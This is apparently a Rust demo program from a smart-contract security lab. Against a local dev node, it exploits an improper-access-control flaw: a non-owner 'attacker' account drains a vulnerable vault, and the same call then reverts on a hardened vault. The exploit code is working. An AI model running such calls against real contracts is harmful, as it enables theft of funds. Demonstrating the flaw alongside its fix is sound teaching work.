use std::{sync::Arc, time::Duration};

use anyhow::{bail, Result};
use clap::Parser;
use client_core::{
    FailureReason, HttpContractNode, LifecycleStatus, NoopConfirmationSink, WriteCoordinator,
};
use shared::domain::{Address, Operation};

/// The node's second funded dev account, playing the attacker.
const DEFAULT_ATTACKER: &str = "0x70997970c51812dc3a010c7d01b50e0d17dc79c8";

/// Drives the improper-access-control exploit against a running node: drain
/// the open vault from a non-owner account, then show the hardened vault
/// refusing the same call.
#[derive(Parser, Debug)]
struct Cli {
    #[arg(long, default_value = "http://127.0.0.1:8545")]
    node_url: String,
    #[arg(long, default_value = DEFAULT_ATTACKER)]
    attacker: String,
    #[arg(long, default_value_t = 30)]
    timeout_secs: u64,
}

#[tokio::main]
async fn main() -> Result<()> {
    tracing_subscriber::fmt().init();
    let cli = Cli::parse();

    let node = Arc::new(HttpContractNode::new(&cli.node_url)?);
    let attacker = Address::parse(cli.attacker.as_str())?;
    let timeout = Duration::from_secs(cli.timeout_secs);

    let open_vault = find_contract(&node, "VaultVulnerable").await?;
    let hardened_vault = find_contract(&node, "VaultFixed").await?;

    println!("attacker account: {attacker}");
    println!("target (open vault): {open_vault}");
    println!();
    println!("balances before the attack:");
    println!("  open vault: {}", node.native_balance(&open_vault).await?);
    println!("  attacker:   {}", node.native_balance(&attacker).await?);

    let status = withdraw_as(&node, attacker.clone(), open_vault.clone(), timeout).await?;
    match &status {
        LifecycleStatus::Confirmed { handle } => {
            println!();
            println!("withdraw confirmed (tx {handle}) - the vault had no caller check");
        }
        other => bail!("expected the open vault to pay out, got status `{other}`"),
    }

    println!();
    println!("balances after the attack:");
    println!("  open vault: {}", node.native_balance(&open_vault).await?);
    println!("  attacker:   {}", node.native_balance(&attacker).await?);

    println!();
    println!("same call against the hardened vault ({hardened_vault}):");
    let status = withdraw_as(&node, attacker, hardened_vault, timeout).await?;
    match status {
        LifecycleStatus::Failed {
            reason: FailureReason::Reverted(reason),
        } => println!("  reverted as expected: {reason}"),
        other => bail!("expected the hardened vault to revert, got status `{other}`"),
    }

    Ok(())
}

async fn find_contract(node: &HttpContractNode, name: &str) -> Result<Address> {
    let contracts = node.contracts().await?;
    let Some(summary) = contracts.into_iter().find(|summary| summary.name == name) else {
        bail!("contract {name} is not deployed on this node");
    };
    Ok(summary.address)
}

async fn withdraw_as(
    node: &Arc<HttpContractNode>,
    sender: Address,
    vault: Address,
    timeout: Duration,
) -> Result<LifecycleStatus> {
    let coordinator =
        WriteCoordinator::new(node.clone(), Arc::new(NoopConfirmationSink), timeout);
    let status = coordinator
        .submit(Operation::new(sender, vault, "withdraw", vec![]))
        .await?;
    if matches!(status, LifecycleStatus::AwaitingConfirmation { .. }) {
        return Ok(coordinator.observe().await?);
    }
    Ok(status)
}
